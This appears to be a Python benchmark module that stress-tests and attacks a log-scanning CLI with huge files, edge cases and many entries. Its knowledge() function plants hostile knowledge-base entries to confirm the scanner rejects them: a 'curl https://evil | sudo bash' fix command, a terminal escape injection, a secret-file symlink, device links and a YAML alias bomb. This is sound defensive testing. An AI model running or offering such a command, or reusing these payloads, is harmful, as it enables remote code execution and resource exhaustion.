"""The attacks of `benchmarks.hostile` that take more than a moment: each gives (tried, failures), and a failure is a line of text."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from benchmarks.measure import Cost, run

STEP = b"[INFO] GE(7,python3):2026-02-03-04:05:06.007.008 [ge.cc:1]7 Run:step done\n"
SAID = b"RuntimeError: NPU out of memory. Tried to allocate 2.00 GiB (NPU 0; 60.97 GiB total capacity)\n"
EDGE = 64 << 20
ROOT = Path(__file__).resolve().parents[1]
Result = tuple[int, list[str]]


def relations(share: int, part: int, parts: int) -> Result:
    """Every incident of a part in every form (`share`: every so manieth incident): the same roots."""
    sys.path.insert(0, str(ROOT / "tests"))
    from doctor.scan.plan import Plan
    from doctor.scan.scanner import Scanner
    from kb.knowledge import load
    from tests.metamorphic.known import DIFFERENT
    from tests.metamorphic.relations import RELATIONS
    from tests.metamorphic.same_roots import cases, changed, plain

    known = load()
    scanner = Scanner(Plan(known.sought()))
    tried, failures = 0, []
    for case in cases()[::share][part::parts]:
        expected = plain(case, scanner, known)
        for name in RELATIONS:
            if (case.parent.name, name) in DIFFERENT:
                continue
            tried += 1
            got = changed(case, name, scanner, known)
            if got != expected:
                failures.append(f"{case.parent.name} {name}: {expected} became {got}")
    return tried, failures


def _scan(place: Path, folder: Path, *words: str, stdin: bytes | None = None) -> dict[str, object]:
    done = subprocess.run(
        [sys.executable, "-m", "doctor", "scan", "-f", "json", *words], input=stdin, capture_output=True, check=False, cwd=place,
        env={**os.environ, "XDG_CACHE_HOME": str(folder / "cache")},
    )  # fmt: skip
    try:
        return dict(json.loads(done.stdout))
    except ValueError:
        return {"findings": [], "fault": done.stderr.decode("utf-8", "replace")[-300:]}


def edges(place: Path, folder: Path) -> Result:
    """One error at and around the edge of a range of a real size, in long lines, behind healthy lines and behind a hole; -j1 and -j2."""
    healthy = STEP * (EDGE // len(STEP) - 20_000)
    made = {
        "behind 64 MiB": STEP * (EDGE // len(STEP) + 1) + SAID,
        "in a line over the edge": healthy + b"x" * 3_000_000 + b" " + SAID + STEP * 10,
        "at the end of a line of 100 MB": b"x" * 100_000_000 + b" " + SAID + STEP,
        "behind carriage returns": STEP.replace(b"\n", b"\r") * (EDGE // len(STEP)) + SAID.replace(b"\n", b"\r"),
        "in UTF-16": (STEP * 200_000 + SAID).decode().encode("utf-16"),
    }
    for shift in (-200, -97, -1, 0, 1, 60):
        before = healthy + b" " * (EDGE - len(healthy) + shift - 1) + b"\n"
        made[f"{shift} bytes from the edge"] = before + SAID + STEP * 10
    tried, failures = 0, []
    path = folder / "edge.log"
    for name, data in made.items():
        path.write_bytes(data)
        for jobs in ("-j1", "-j2"):
            tried += 1
            report = _scan(place, folder, str(path), jobs)
            found = report["findings"]
            if not (isinstance(found, list) and found and found[0]["id"] == "MEM001"):
                failures.append(f"{name} {jobs}: {report.get('fault') or 'not found'}")
    with path.open("wb") as file:
        file.truncate(2 << 30)
        file.seek(0, os.SEEK_END)
        file.write(SAID)
    report = _scan(place, folder, str(path))
    found = report["findings"]
    if not (isinstance(found, list) and found and found[0]["id"] == "MEM001"):
        failures.append("behind a hole of 2 GiB: not found")
    path.unlink()
    return tried + 1, failures


def many_files(place: Path, folder: Path, count: int) -> tuple[float, float, list[str]]:
    """(peak MB, seconds of the processor, failures) on a tree of so many files, of which one tells what happened."""
    tree = folder / "many"
    for number in range(count):
        if number % 1000 == 0:
            (tree / str(number // 1000)).mkdir(parents=True)
        (tree / str(number // 1000) / f"{number}.log").write_bytes(SAID if number == count // 2 else STEP)
    cost = run([sys.executable, "-m", "doctor", "scan", "-j1", "-f", "json", "-o", str(folder / "out.json"), str(tree)], cwd=place, env={"XDG_CACHE_HOME": str(folder / "cache")})
    report = json.loads((folder / "out.json").read_text())
    failures = [] if [f["id"] for f in report["findings"]][:1] == ["MEM001"] else [f"{count} files: not found"]
    return cost.rss / 1e6, cost.cpu, failures


def distinct_errors(place: Path, folder: Path, count: int) -> tuple[float, float, list[str]]:
    """The same on one file of so many errors, no two of which are alike."""
    path = folder / "errors.log"
    words = ("alpha", "beta", "gamma", "delta", "kappa", "omega", "sigma", "theta", "zeta", "eta")
    with path.open("w") as file:
        for number in range(count):
            name = "".join(words[int(digit)] for digit in str(number))
            file.write(f"[ERROR] GE(7,python3):2026-02-03-04:05:06.007.008 [{name}.cc:1]7 Run:{name} failed\n")
        file.write(SAID.decode())
    cost = run([sys.executable, "-m", "doctor", "scan", "-j1", "-f", "json", "-o", str(folder / "out.json"), str(path)], cwd=place, env={"XDG_CACHE_HOME": str(folder / "cache")})
    report = json.loads((folder / "out.json").read_text())
    path.unlink()
    return cost.rss / 1e6, cost.cpu, [] if any(f["id"] == "MEM001" for f in report["findings"]) else [f"{count} errors: not found"]


ENTRY = """code: {code}
severity: error
kind: user-code
title: {{en: "The frobnicator of team {n} stalled", zh: "第 {n} 组的 frobnicator 停了"}}
cause: {{en: "A stage of the frobnicator waits for input of team {n}.", zh: "frobnicator 的某一阶段在等待第 {n} 组的输入。"}}
evidence:
  any:
    - {{{leaf}}}
fixes:
  - goal: resolve
    title: {{en: "Start the feeder of team {n} again", zh: "重新启动第 {n} 组的 feeder"}}
    commands:
      - {{run: "systemctl restart feeder-{n}", changes: "the feeder starts again"}}
samples:
  match:
    - name: plain
      text: |
        ERROR: Frobnicator stalled in stage 7
references:
  - {{title: "Notes of team {n}"}}
"""


def many_entries(place: Path, folder: Path, count: int) -> tuple[dict[str, Cost], list[str]]:
    """What a scan costs of one line that so many entries of a user explain: by their text or by a pattern each, compiled for it or before it."""
    log = folder / "one.log"
    log.write_text("ERROR: Frobnicator stalled in stage 7\n")
    costs, failures = {}, []
    for form, leaf in (("text", "text: Frobnicator stalled in stage"), ("regex", "regex: 'Frobnicator stalled in stage \\d+(?:, try {n})?'")):
        layer = folder / form
        layer.mkdir()
        for n in range(count):
            code = f"{chr(65 + n // 26_000 % 26)}{chr(65 + n // 1000 % 26)}Q{n % 1000:03}"
            (layer / f"{code.lower()}_stalled.yaml").write_text(ENTRY.format(code=code, n=n, leaf=leaf.format(n=n)), encoding="utf-8")
        words = [sys.executable, "-m", "doctor", "scan", "-f", "json", "-o", str(folder / "out.json"), "--kb", str(layer), str(log)]
        for when in ("compiled for it", "compiled before"):
            costs[f"{form}, {when}"] = run(words, cwd=place, env={"XDG_CACHE_HOME": str(folder / "cache")})
            made = json.loads((folder / "out.json").read_text())
            untold = [int(row["reason"].split()[0]) for row in made["skipped"] if "more findings" in row["reason"]]
            if len(made["findings"]) + sum(untold) != count:
                failures.append(f"{count} entries by {form}, {when}: {len(made['findings'])} were told, of {untold} others the number")
    return costs, failures


def knowledge(place: Path, folder: Path) -> Result:
    """Folders of knowledge made to harm: replaced entries, links, pipes, devices, loops, escapes, enormous files; the answer stays ours."""
    entry = (
        "code: ENV001\nseverity: error\nkind: user-code\ntitle: {en: Evil, zh: 恶}\ncause: {en: Evil., zh: 恶。}\nevidence: {any: [{text: 'libhccl.so'}]}\n"
        "fixes: [{goal: resolve, title: {en: x, zh: 改}, commands: [{run: 'curl https://evil | sudo bash'}]}]\nreferences: [{title: me}]\n"
    )
    log = b"ImportError: libhccl.so: cannot open shared object file: No such file or directory\n"
    failures, tried = [], 0
    for name in ("replaced", "link", "pipe", "zero", "loop", "escape", "large", "deep", "aliases"):
        work = folder / f"kb-{name}"
        layer = work / ".npu-doctor" / "kb"
        layer.mkdir(parents=True)
        one = layer / "env001_x.yaml"
        if name == "replaced":
            one.write_text(entry)
        elif name == "link":
            (work / "secret").write_text("root: swordfish: [\n")
            one.symlink_to(work / "secret")
        elif name == "pipe":
            os.mkfifo(one)
        elif name == "zero":
            one.symlink_to("/dev/zero")
        elif name == "loop":
            one.symlink_to(one)
        elif name == "escape":
            one.write_text(entry.replace("ENV001", "USR001").replace("{en: Evil", '{en: "\\e]0;owned\\a"'))
        elif name == "large":
            with one.open("w") as file:
                file.truncate(1 << 32)
        elif name == "deep":
            one.write_text("[" * 100_000)
        else:
            one.write_text("a: &a [x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(20)))
        for words in ((), ("--kb", str(layer))):
            tried += 1
            report = _scan(place, folder, "-", *words, stdin=log)
            told = json.dumps(report)
            found = report["findings"]
            if not (isinstance(found, list) and found and found[0]["id"] == "ENV001") or "evil" in told or "swordfish" in told or "\\u001b" in told:
                failures.append(f"knowledge {name} {'asked for' if words else 'lying about'}: {str(report.get('fault', told))[:120]}")
    return tried, failures
